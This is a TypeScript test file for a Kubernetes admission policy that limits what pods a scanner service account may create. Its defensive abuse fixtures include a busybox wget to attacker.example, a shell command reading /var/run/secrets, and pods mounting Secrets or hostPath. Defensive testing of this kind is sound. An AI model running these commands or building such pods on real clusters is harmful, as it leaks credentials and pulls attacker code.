import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { evaluate } from '@marcbachmann/cel-js';
import { load, loadAll } from 'js-yaml';
import { describe, expect, it } from 'vitest';
import type { ScanConfig } from '../../src/core/config.js';
import { planScan, renderPlan } from '../../src/core/scan.js';
import { ROOT, scanConfig } from './helpers.js';

/* eslint-disable @typescript-eslint/no-explicit-any -- admission sees pods as untyped JSON, and the tests poke at it */

// deploy/admission-policy.yaml (issue 18): the scan identity may create only pods of the scan's shape. Its CEL is
// evaluated here with @marcbachmann/cel-js against the pods the runner renders (admitted) and against pods that abuse
// `pods create` + `pods/log get` (refused); a CEL-free check restates what the policy encodes, so the test does not
// rest on one CEL implementation alone.

interface Policy {
  metadata: { name: string };
  spec: {
    matchConstraints: { resourceRules: { resources: string[]; operations: string[] }[] };
    matchConditions: { name: string; expression: string }[];
    variables: { name: string; expression: string }[];
    validations: { expression: string; message: string }[];
  };
}
interface Binding {
  spec: { policyName: string; validationActions: string[]; matchResources: { namespaceSelector: any } };
}

const docs = loadAll(readFileSync(join(ROOT, 'deploy/admission-policy.yaml'), 'utf8')) as any[];
const policy = docs.find((d) => d.kind === 'ValidatingAdmissionPolicy') as Policy;
const binding = docs.find((d) => d.kind === 'ValidatingAdmissionPolicyBinding') as Binding;
const rbac = loadAll(readFileSync(join(ROOT, 'deploy/rbac.yaml'), 'utf8')) as any[];
const serviceAccount = rbac.find((d) => d.kind === 'ServiceAccount');
const SCAN_USER = `system:serviceaccount:${serviceAccount.metadata.namespace}:${serviceAccount.metadata.name}`;
const action = load(readFileSync(join(ROOT, 'action.yml'), 'utf8')) as { inputs: Record<string, { default?: string }> };
const SCANNER_IMAGE = action.inputs['scanner-image']?.default ?? '';
const KEEPALIVE_IMAGE = action.inputs['keepalive-image']?.default ?? '';

/** What the policy says about a pod created by `username`: not its subject, or the messages of failed validations. */
function admission(pod: any, username = SCAN_USER, subResource = ''): { subject: boolean; refused: string[] } {
  const request = { operation: 'CREATE', subResource, userInfo: { username, groups: [] } };
  const subject = policy.spec.matchConditions.every((c) => evaluate(c.expression, { object: pod, request }) === true);
  if (!subject) return { subject, refused: [] };
  const variables: Record<string, unknown> = {};
  for (const variable of policy.spec.variables)
    variables[variable.name] = evaluate(variable.expression, { object: pod, request, variables });
  const refused = policy.spec.validations
    .filter((v) => evaluate(v.expression, { object: pod, request, variables }) !== true)
    .map((v) => v.message);
  return { subject, refused };
}

/** The pod as the API server's validating admission sees it: rendered, with the ServiceAccount plugin's default. */
async function renderedPod(overrides: Partial<ScanConfig> = {}): Promise<any> {
  const config = scanConfig({ scannerImage: SCANNER_IMAGE, keepaliveImage: KEEPALIVE_IMAGE, ...overrides });
  const objects = loadAll(renderPlan(await planScan(config))) as any[];
  const pod = objects.find((o) => o.kind === 'Pod');
  pod.spec.serviceAccountName ??= 'default';
  return pod;
}

const mutated = async (change: (pod: any) => void): Promise<any> => {
  const pod = await renderedPod();
  change(pod);
  return pod;
};
const container = (pod: any, name: string) =>
  [...pod.spec.containers, ...(pod.spec.initContainers ?? [])].find((c: any) => c.name === name);

describe('deploy/admission-policy.yaml', () => {
  it('is a v1 ValidatingAdmissionPolicy and a Deny binding for the scan namespace and the scan identity', () => {
    expect(docs.map((d) => [d.apiVersion, d.kind])).toEqual([
      ['admissionregistration.k8s.io/v1', 'ValidatingAdmissionPolicy'],
      ['admissionregistration.k8s.io/v1', 'ValidatingAdmissionPolicyBinding'],
    ]);
    expect(binding.spec.policyName).toBe(policy.metadata.name);
    expect(binding.spec.validationActions).toEqual(['Deny']);
    expect(binding.spec.matchResources.namespaceSelector).toEqual({
      matchLabels: { 'kubernetes.io/metadata.name': serviceAccount.metadata.namespace },
    });
    expect(policy.spec.matchConstraints.resourceRules[0]?.resources).toContain('pods');
    expect(policy.spec.matchConstraints.resourceRules[0]?.operations).toContain('CREATE');
    expect(policy.spec.matchConditions.map((c) => c.expression).join('\n')).toContain(`'${SCAN_USER}'`);
    for (const v of policy.spec.validations) expect(v.message, v.expression).toBeTruthy();
  });

  it("allows the action's default scanner and keep-alive images", () => {
    const variables = Object.fromEntries(policy.spec.variables.map((v) => [v.name, evaluate(v.expression, {})]));
    expect(variables['scannerImages']).toEqual([SCANNER_IMAGE]);
    expect(variables['keepaliveImages']).toEqual([KEEPALIVE_IMAGE]);
  });

  describe('admits every pod the runner renders', () => {
    const variants: [string, Partial<ScanConfig>][] = [
      ['the shipped profile', {}],
      [
        'inputs, waivers, controls, pull secrets, node selector, tolerations, annotations',
        {
          profileInputs: join(ROOT, 'profiles/container-baseline/inspec.yml'),
          waiverFile: join(ROOT, 'profiles/container-baseline/inspec.yml'),
          controls: ['cb-01'],
          imagePullSecrets: ['registry-credentials'],
          nodeSelector: { pool: 'scans' },
          tolerations: [{ key: 'dedicated', operator: 'Equal', value: 'scans', effect: 'NoSchedule' }],
          podAnnotations: { team: 'platform' },
        },
      ],
    ];
    for (const [name, overrides] of variants) {
      it(name, async () => {
        const pod = await renderedPod(overrides);
        expect(admission(pod)).toEqual({ subject: true, refused: [] });
        expect(shapeProblems(pod)).toEqual([]);
      });
    }
  });

  // What `pods create` + `pods/log get` allow without the policy: each of these would hand a secret to the log reader.
  const abuses: [string, (pod: any) => void, RegExp][] = [
    [
      'a Secret volume',
      (p) => p.spec.volumes.push({ name: 's', secret: { secretName: 'db-password' } }),
      /only ConfigMap, emptyDir and projected/,
    ],
    [
      'a projected Secret',
      (p) => p.spec.volumes.push({ name: 's', projected: { sources: [{ secret: { name: 'db-password' } }] } }),
      /only ConfigMap, emptyDir and projected/,
    ],
    [
      'a projected service account token',
      (p) => p.spec.volumes.push({ name: 't', projected: { sources: [{ serviceAccountToken: { path: 'token' } }] } }),
      /no service account token/,
    ],
    ['a hostPath volume', (p) => p.spec.volumes.push({ name: 'h', hostPath: { path: '/' } }), /no hostPath/],
    [
      'a secretKeyRef in the scanner',
      (p) =>
        container(p, 'scanner').env.push({
          name: 'X',
          valueFrom: { secretKeyRef: { name: 'db-password', key: 'password' } },
        }),
      /no environment from a Secret/,
    ],
    [
      'an envFrom secretRef in the target',
      (p) => (container(p, 'target').envFrom = [{ secretRef: { name: 'db-password' } }]),
      /no environment from a Secret/,
    ],
    [
      'a secretKeyRef in the init container',
      (p) => (container(p, 'keepalive').env = [{ name: 'X', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }]),
      /no environment from a Secret/,
    ],
    [
      'another scanner image',
      (p) => (container(p, 'scanner').image = 'attacker.example/reader:1'),
      /scanner images this policy allows/,
    ],
    [
      'another keep-alive image',
      (p) => (container(p, 'keepalive').image = 'busybox:latest'),
      /keep-alive image this policy allows/,
    ],
    [
      'a keep-alive that downloads something',
      (p) => (container(p, 'keepalive').command = ['/bin/busybox', 'wget', 'https://attacker.example/x']),
      /copying busybox/,
    ],
    [
      'a target that runs a shell',
      (p) => (container(p, 'target').command = ['/bin/sh', '-c', 'cat /var/run/secrets/*']),
      /only runs the keep-alive/,
    ],
    [
      'a target that runs a binary from a ConfigMap',
      (p) => container(p, 'target').volumeMounts.push({ name: 'scanner', mountPath: '/dev/kcs/bin' }),
      /only runs the keep-alive/,
    ],
    [
      'a third container',
      (p) => p.spec.containers.push({ name: 'reader', image: SCANNER_IMAGE }),
      /exactly two containers/,
    ],
    [
      'the service account token mounted',
      (p) => (p.spec.automountServiceAccountToken = true),
      /mounts no service account token/,
    ],
    ['another service account', (p) => (p.spec.serviceAccountName = 'deployer'), /default service account/],
    ['the host PID namespace', (p) => (p.spec.hostPID = true), /no host namespaces/],
    [
      'an ephemeral container',
      (p) => (p.spec.ephemeralContainers = [{ name: 'debug', image: SCANNER_IMAGE }]),
      /no ephemeral containers/,
    ],
  ];
  describe('refuses a pod that could hand a secret to whoever reads its log', () => {
    for (const [name, change, message] of abuses) {
      it(name, async () => {
        const pod = await mutated(change);
        const { subject, refused } = admission(pod);
        expect(subject).toBe(true);
        expect(refused.join('\n')).toMatch(message);
        expect(shapeProblems(pod).length, `CEL-free check for ${name}`).toBeGreaterThan(0);
      });
    }
  });

  it('refuses adding an ephemeral container to a running scan pod', async () => {
    expect(admission(await renderedPod(), SCAN_USER, 'ephemeralcontainers').refused).toContain(
      'the scan identity may not add ephemeral containers to a pod',
    );
  });

  it('leaves other identities to their own rules', async () => {
    const pod = await mutated((p) => p.spec.volumes.push({ name: 's', secret: { secretName: 'x' } }));
    expect(admission(pod, 'system:serviceaccount:kube-cinc-scan:other')).toEqual({ subject: false, refused: [] });
  });
});

/**
 * The policy's constraints restated without CEL, for the rendered pod: what a scan pod may look like. Returns the
 * problems found (none for a pod of the scan's shape).
 */
function shapeProblems(pod: any): string[] {
  const problems: string[] = [];
  const spec = pod.spec;
  const containers: any[] = spec.containers ?? [];
  const inits: any[] = spec.initContainers ?? [];
  const names = containers.map((c) => c.name).sort();
  if (JSON.stringify(names) !== JSON.stringify(['scanner', 'target'])) problems.push(`containers ${names.join(',')}`);
  if (inits.length !== 1 || inits[0].name !== 'keepalive') problems.push('init containers');
  if ((spec.ephemeralContainers ?? []).length > 0) problems.push('ephemeral containers');
  const scanner = containers.find((c) => c.name === 'scanner');
  if (scanner && scanner.image !== SCANNER_IMAGE) problems.push('scanner image');
  const keepalive = inits[0];
  if (keepalive && keepalive.image !== KEEPALIVE_IMAGE) problems.push('keep-alive image');
  if (
    keepalive &&
    JSON.stringify(keepalive.command) !== JSON.stringify(['/bin/busybox', 'cp', '/bin/busybox', '/kcs/busybox'])
  )
    problems.push('keep-alive command');
  const target = containers.find((c) => c.name === 'target');
  if (target) {
    const command: string[] = target.command ?? [];
    if (command.length !== 3 || command[0] !== '/dev/kcs/busybox' || command[1] !== 'sleep' || target.args)
      problems.push('target command');
    if ((target.volumeMounts ?? []).some((m: any) => m.name !== 'keepalive' || m.mountPath !== '/dev/kcs'))
      problems.push('target mounts');
  }
  for (const volume of spec.volumes ?? []) {
    const kinds = Object.keys(volume).filter((k) => k !== 'name');
    const ok =
      kinds.length === 1 &&
      (kinds[0] === 'configMap' ||
        kinds[0] === 'emptyDir' ||
        (kinds[0] === 'projected' &&
          (volume.projected.sources ?? []).every((s: any) =>
            Object.keys(s).every((k) => ['configMap', 'downwardAPI'].includes(k)),
          )));
    if (!ok) problems.push(`volume ${volume.name}: ${kinds.join(',')}`);
  }
  for (const c of [...containers, ...inits]) {
    if ((c.envFrom ?? []).some((e: any) => e.secretRef)) problems.push(`${c.name} envFrom secretRef`);
    if ((c.env ?? []).some((e: any) => e.valueFrom?.secretKeyRef)) problems.push(`${c.name} secretKeyRef`);
  }
  if (spec.automountServiceAccountToken !== false) problems.push('service account token');
  if (spec.serviceAccountName !== undefined && spec.serviceAccountName !== 'default') problems.push('service account');
  if (spec.hostNetwork || spec.hostPID || spec.hostIPC) problems.push('host namespaces');
  return problems;
}
